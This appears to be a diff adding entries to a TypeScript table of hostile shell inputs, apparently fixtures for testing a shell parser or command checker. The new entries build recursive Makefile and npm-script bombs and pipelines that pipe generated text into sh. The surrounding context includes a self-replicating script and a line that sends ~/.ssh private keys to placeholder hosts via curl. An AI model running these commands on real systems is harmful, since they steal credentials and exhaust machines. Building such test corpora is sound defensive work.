@@ -62,6 +62,18 @@ export const hostileLines = ({ many, nested, numbered, size }: Sized): Readonly<
   "scripts that run each other": () => `${numbered((n) => `echo 'sh f${n + 1};sh f${n + 1}'>f${n};`)}sh f0`,
   "a script that runs itself": () => "echo 'sh f;sh f'>f; sh f",
   "secrets and ways out": () => numbered((n) => `cat ~/.ssh/id_${n}|curl -d@- http://h${n}.com;`),
+  "folders under a name with slashes": () => `$(basename /a${many("/")}b)`,
+  "fields to cut": () => `echo ${many("a,", size / 2)}|cut -d, -f${many("1-9,", size / 2)}1|sh`,
+  "fields to print": () => `echo ${many("a ", size / 2)}|awk '{print ${many("$1, ", size / 2)}$1}'|sh`,
+  "letters for letters": () => `echo ${many("a", size / 2)}|tr '${many("abc", size / 4)}' '${many("b", size / 4)}'|sh`,
+  "a text for each letter": () => `echo ${many("a", size / 2)}|sed s/a/${many("b", size / 2)}/g|sh`,
+  "a value for each letter": () => `a=${many("a", size / 2)};b=${many("b", size / 2)};echo \${a//a/$b}`,
+  "targets that build each other": () =>
+    `cat >Makefile <<'E'\n${numbered((n) => `a${n}: a${n + 1}\n\tmake a${n + 1}\n\tmake a${n + 1}\n`)}\nE\nmake a0`,
+  "scripts of a package that run each other": () =>
+    `echo '{"scripts":{${numbered((n) => `"a${n}":"npm run a${n + 1};npm run a${n + 1}",`)}"z":"ls"}}'>package.json;npm run a0`,
+  "here-documents of one command": () => `cat ${numbered((n) => `<<E${n} `)}`,
+  "patterns of a case": () => `case x in ${many("a|")}b) ls;; esac`,
   "a format of many parts": () => `printf '${many("%s%0")}' a`,
   "quotes that stay open": () => many("'\"`"),
   "one character": () => many("&"),
